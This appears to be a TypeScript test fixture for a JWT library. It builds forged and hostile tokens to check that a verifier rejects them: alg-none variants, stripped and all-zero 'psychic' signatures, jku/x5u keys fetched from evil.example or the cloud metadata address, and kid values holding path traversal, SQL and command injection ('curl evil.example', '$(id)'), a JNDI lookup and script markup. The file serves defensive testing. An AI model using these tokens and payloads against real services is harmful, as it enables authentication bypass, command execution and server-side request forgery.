import { encodeBase64url } from '../../../../../src/core/jwt/text/base64url.ts'
import { encode, seconds } from '../sample.ts'

type Json = Record<string, unknown>

const claims = { sub: 'admin', iss: 'https://id.example', exp: seconds + 3_600 }
const logout = { 'http://schemas.openid.net/event/backchannel-logout': {} }
const jwk = {
  kty: 'EC',
  crv: 'P-256',
  x: 'f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU',
  y: 'x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0',
}
const bytes = (hex: string) =>
  encodeBase64url(Uint8Array.from(hex.match(/../g) ?? [], (pair) => Number.parseInt(pair, 16)))
const zeros = bytes('00'.repeat(64))
const order = 'ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551'
const der = bytes(`3045022100${'11'.repeat(66)}`)

function make(header: Json | string, body: unknown = claims, signature = 'AAAA'): string {
  return `${encode(header)}.${encode(body)}.${signature}`
}
const rs = (more: Json): string => make({ alg: 'RS256', typ: 'JWT', ...more }, claims, 'c2lnbmF0dXJl')
const kid = (value: unknown): string => rs({ kid: value })
const jwe = (more: Json): string => `${encode({ alg: 'dir', enc: 'A256GCM', ...more })}..aXY.Y2lwaGVy.dGFn`
const sound = make({ alg: 'ES256', kid: '1' }, claims, bytes('11'.repeat(64)))
const [head = '', body = ''] = sound.split('.')

/** Tokens as attackers make them, and the name by which each is to be called; one a line. */
// prettier-ignore
export const attackTokens: [name: string, token: string][] = [
  ...['none', 'None', 'NONE', 'nOnE', 'NonE', ' none', 'none ', 'none\u0000', 'none\t', '\u006eone'].map(
    (alg): [string, string] => ['algorithm none', make({ alg }, claims, '')],
  ),
  ['algorithm none', make({ alg: 'none' }, claims, 'c2lnbmF0dXJl')],
  ['algorithm none', make('{"alg":"n\\u006fne"}', claims, '')],
  ['no algorithm', make({ typ: 'JWT' })],
  ['no algorithm', make({ alg: '' })],
  ['no algorithm', make({ alg: null })],
  ['no algorithm', make({ alg: ['none'] })],
  ['no algorithm', make({ alg: 0 })],
  ['no algorithm', make({ alg: { toString: 'none' } })],
  ['signature stripped', make({ alg: 'RS256' }, claims, '')],
  ['signature stripped', make({ alg: 'HS256' }, claims, '')],
  ['signature stripped', `${head}.${body}`],
  ['path traversal in kid', kid('../../../../../../dev/null')],
  ['path traversal in kid', kid('..\\..\\windows\\win.ini')],
  ['path traversal in kid', kid('%2e%2e%2f%2e%2e%2fdev%2fnull')],
  ['path traversal in kid', kid('keys/../../proc/sys/kernel/randomize_va_space')],
  ['path in kid', kid('/dev/null')],
  ['path in kid', kid('/etc/passwd')],
  ['path in kid', kid('C:\\Windows\\win.ini')],
  ['path in kid', kid('file:///etc/hostname')],
  ['SQL injection in kid', kid("x' UNION SELECT 'secret';-- -")],
  ['SQL injection in kid', kid("' OR '1'='1")],
  ['SQL injection in kid', kid("1; DROP TABLE keys")],
  ['SQL injection in kid', kid("a'/**/union/**/select/**/1")],
  ['SQL injection in kid', kid("' || (select 1) || '")],
  ['command injection in kid', kid('key.pem|id')],
  ['command injection in kid', kid('key.pem; curl evil.example')],
  ['command injection in kid', kid('$(id)')],
  ['command injection in kid', kid('`id`')],
  ['command injection in kid', kid('a && id')],
  ['expression in kid', kid('${jndi:ldap://evil.example/a}')],
  ['expression in kid', kid('{{7*7}}')],
  ['LDAP injection in kid', kid('*)(uid=*))(|(uid=*')],
  ['address in kid', kid('https://evil.example/key')],
  ['address in kid', kid('//evil.example/key')],
  ['markup in kid', kid('<script>alert(1)</script>')],
  ['nothing in kid', kid('')],
  ['nothing in kid', kid('   ')],
  ['non-text value in kid', kid(null)],
  ['non-text value in kid', kid(['a'])],
  ['non-text value in kid', kid({ $ne: '' })],
  ['non-text value in kid', kid(0)],
  ['control characters in kid', kid('a\u0000b')],
  ['control characters in kid', kid('a\r\nX-Admin: 1')],
  ['key from jku', rs({ jku: 'https://evil.example/jwks.json' })],
  ['key from jku', rs({ jku: 'http://169.254.169.254/latest/meta-data' })],
  ['key from jku', rs({ jku: 'https://id.example@evil.example/jwks' })],
  ['key from x5u', rs({ x5u: 'https://evil.example/cert.pem' })],
  ['key in the token', make({ alg: 'ES256', jwk })],
  ['key in the token', make({ alg: 'HS256', jwk: { kty: 'oct', k: 'c2VjcmV0' } })],
  ['certificate in the token', rs({ x5c: ['MIIB'] })],
  ['psychic signature', make({ alg: 'ES256' }, claims, zeros)],
  ['psychic signature', make({ alg: 'ES384' }, claims, bytes('00'.repeat(96)))],
  ['psychic signature', make({ alg: 'ES256' }, claims, bytes('00'.repeat(32) + '11'.repeat(32)))],
  ['psychic signature', make({ alg: 'ES256' }, claims, bytes(order + order))],
  ['psychic signature', make({ alg: 'EdDSA' }, claims, zeros)],
  ['ECDSA signature in DER', make({ alg: 'ES256' }, claims, der)],
  ['ECDSA signature of another length', make({ alg: 'ES256' }, claims, bytes('11'.repeat(63)))],
  ['unknown extension', rs({ crit: ['https://evil.example/ext'], 'https://evil.example/ext': true })],
  ['unknown extension', rs({ crit: [] })],
  ['unknown extension', rs({ crit: ['alg'] })],
  ['unknown extension', rs({ crit: 'exp' })],
  ['payload not encoded', rs({ b64: false, crit: ['b64'] })],
  ['duplicate members', make('{"alg":"RS256","alg":"none"}', claims)],
  ['duplicate members', make({ alg: 'RS256' }, '{"sub":"user","sub":"admin"}')],
  ['second spelling', `${sound}=`],
  ['second spelling', sound.replace(/.$/, 'B')],
  ['second spelling', make({ alg: 'HS256' }, claims, 'ab+/')],
  ['second spelling', `${head}=.${body}.AAAA`],
  ['excessive work', jwe({ alg: 'PBES2-HS256+A128KW', p2s: 'c2FsdA', p2c: 2_147_483_647 })],
  ['excessive work', jwe({ alg: 'PBES2-HS512+A256KW', p2s: 'c2FsdA', p2c: 50_000_000 })],
  ['compression bomb', jwe({ zip: 'DEF' })],
  ['old RSA padding', jwe({ alg: 'RSA1_5' })],
  ['invalid curve', jwe({ alg: 'ECDH-ES', epk: { ...jwk, y: jwk.x } })],
  ['no signatures', JSON.stringify({ payload: body, signatures: [] })],
  ['unsigned token inside', make({ alg: 'RS256', cty: 'JWT' }, make({ alg: 'none' }, claims, ''), 'c2ln')],
  ['time', make({ alg: 'RS256' }, { ...claims, exp: (seconds + 3_600) * 1_000 })],
  ['time', make({ alg: 'RS256' }, { ...claims, exp: String(seconds + 3_600) })],
  ['time', make({ alg: 'RS256' }, { ...claims, exp: 253_402_300_800 })],
  ['time', make({ alg: 'RS256' }, '{"sub":"admin","exp":1e400}')],
  ['time', make({ alg: 'RS256' }, { ...claims, exp: null })],
]

/** Tokens of one kind, judged as an access token. */
// prettier-ignore
export const otherKinds: [kind: string, token: string][] = [
  ['Logout token', make({ alg: 'RS256', typ: 'logout+jwt' }, { ...claims, aud: 'c', iat: seconds, jti: '1', sid: 's', events: logout })],
  ['Logout token', make({ alg: 'RS256' }, { ...claims, aud: 'c', iat: seconds, jti: '1', sid: 's', events: logout })],
  ['Refresh token', make({ alg: 'HS512' }, { ...claims, typ: 'Refresh' })],
  ['ID token', make({ alg: 'RS256' }, { ...claims, aud: 'c', nonce: 'n', iat: seconds })],
  ['DPoP proof', make({ alg: 'ES256', typ: 'dpop+jwt', jwk }, { htm: 'GET', htu: 'https://a', jti: '1', iat: seconds })],
  ['Client assertion', make({ alg: 'ES256' }, { ...claims, iss: 'c', sub: 'c', aud: 'https://id.example/token' })],
  ['Security event token', make({ alg: 'RS256', typ: 'secevent+jwt' }, { ...claims, iat: seconds, jti: '1', events: { x: {} } })],
]
